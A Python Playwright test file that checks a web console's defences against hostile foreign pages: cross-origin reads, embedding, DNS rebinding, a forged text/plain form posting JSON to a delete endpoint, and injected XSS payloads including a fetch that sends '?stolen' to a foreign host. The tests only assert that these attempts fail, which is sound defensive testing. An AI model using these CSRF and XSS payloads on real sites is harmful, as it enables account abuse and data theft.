"""What other pages of the same browser get of a running console: nothing."""

from __future__ import annotations

from typing import Any

from playwright.sync_api import Page, expect

from monoskope.testing.parts import wait_until
from tests.console.conftest import Visit
from tests.console.page import ConsolePage
from tests.console.safety.foreign import foreign_page
from tests.e2e.conftest import Team
from tests.support.browser import REBOUND, Chromium, Watched
from tests.support.console import Console

# Everything that a page may try without the browser's user: whatever it can read of an answer is returned.
FETCHES = """async origin => {
  const json = {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'};
  const tries = {
    page: [origin + '/', {}],
    script: [origin + '/console.js', {}],
    json: [origin + '/api/secrets', json],
    cookies: [origin + '/api/secrets', {...json, credentials: 'include'}],
    bearer: [origin + '/api/secrets', {...json, headers: {...json.headers, Authorization: 'Bearer x'}}],
    plain: [origin + '/api/secrets', {method: 'POST', body: '{}'}],
    unread: [origin + '/api/secrets', {method: 'POST', body: '{}', mode: 'no-cors'}],
  };
  const read = {};
  for (const [name, [url, how]] of Object.entries(tries)) {
    try {
      const answer = await fetch(url, how);
      read[name] = [answer.type, answer.status, await answer.text()];
    } catch (error) {
      read[name] = error.name;
    }
  }
  return read;
}"""

LOADED = """([tag, attribute, url]) => new Promise(done => {
  const element = document.createElement(tag);
  element.onload = () => done('loaded');
  element.onerror = () => done('failed');
  element[attribute] = url;
  document.body.append(element);
})"""


def origin_of(page: ConsolePage) -> str:
    found: str = page.page.evaluate("() => location.origin")
    return found


def test_another_page_reads_nothing_whatever_it_fetches(page: ConsolePage, chromium: Chromium) -> None:
    watched = Watched()
    with foreign_page() as elsewhere, chromium.visit(watched=watched) as tab:
        tab.goto(elsewhere)
        read: dict[str, Any] = tab.evaluate(FETCHES, origin_of(page))
    assert read == dict.fromkeys(read, "TypeError")


def test_another_page_can_neither_frame_nor_embed_the_console(page: ConsolePage, chromium: Chromium) -> None:
    watched, origin = Watched(), origin_of(page)
    with foreign_page() as elsewhere, chromium.visit(watched=watched) as tab:
        tab.goto(elsewhere)
        assert tab.evaluate(LOADED, ["script", "src", f"{origin}/console.js"]) == "failed"
        assert tab.evaluate(LOADED, ["img", "src", f"{origin}/icon.svg"]) == "failed"
        assert tab.evaluate(LOADED, ["iframe", "src", f"{origin}/"]) in {"loaded", "failed"}
        assert not any("monoctl" in frame.content() for frame in tab.frames[1:])


def test_a_form_of_another_page_changes_nothing(page: ConsolePage, chromium: Chromium, team: Team) -> None:
    watched, origin = Watched(), origin_of(page)
    form = f"""<!doctype html><html lang=en><title>Foreign</title>
        <form method=post enctype=text/plain action="{origin}/api/delete">
        <input name='{{"uris":["{team.uri("vault", "x")}"],"typed":"' value='"}}'><button>Win</button></form>"""
    with foreign_page(form) as elsewhere, chromium.visit(watched=watched) as tab:
        tab.goto(elsewhere)
        with tab.expect_response(f"{origin}/api/delete") as answer:
            tab.get_by_role("button", name="Win").click()
        assert answer.value.status == 403


def test_a_name_that_points_to_this_machine_is_not_the_console(page: ConsolePage, chromium: Chromium) -> None:
    watched, port = Watched(), origin_of(page).rpartition(":")[2]
    with chromium.visit(watched=watched) as tab:
        answer = tab.goto(f"http://{REBOUND}:{port}/")
        assert answer is not None
        assert answer.status == 421
        script = "() => fetch('/api/whoami', {method: 'POST', body: '{}'}).then(answer => answer.status)"
        assert tab.evaluate(script) == 421


def test_the_page_can_be_made_neither_to_run_nor_to_send_what_is_injected(visit: Visit) -> None:
    watched = Watched()
    with foreign_page() as elsewhere, visit(watched=watched) as page:
        assert _refused(page.page, "() => { document.body.innerHTML = '<img src=x onerror=alert(1)>' }")
        assert _refused(page.page, "() => { document.createElement('script').text = 'alert(1)' }")
        assert _refused(page.page, f"() => fetch('{elsewhere}/?stolen')")
        assert _refused(page.page, "() => { document.body.setAttribute('onclick', 'alert(1)') }")
        assert page.page.evaluate(LOADED, ["img", "src", f"{elsewhere}/?stolen"]) == "failed"
        # Each is told on the page's own console, which Playwright hears when it is asked for something.
        wait_until(lambda: page.page.evaluate("() => true") and len(watched.wrong) >= 4, what="all are told")


def _refused(page: Page, script: str) -> bool:
    tried = f"async () => {{ try {{ await ({script})(); return false }} catch (error) {{ return true }} }}"
    return bool(page.evaluate(tried))


def test_the_terminal_tells_of_each_page_that_begins(visit: Visit, console: Console) -> None:
    before = console.terminal()
    with visit() as page:
        expect(page.heading("Secrets")).to_be_visible()
        assert console.terminal().count("A page has begun") > before.count("A page has begun")
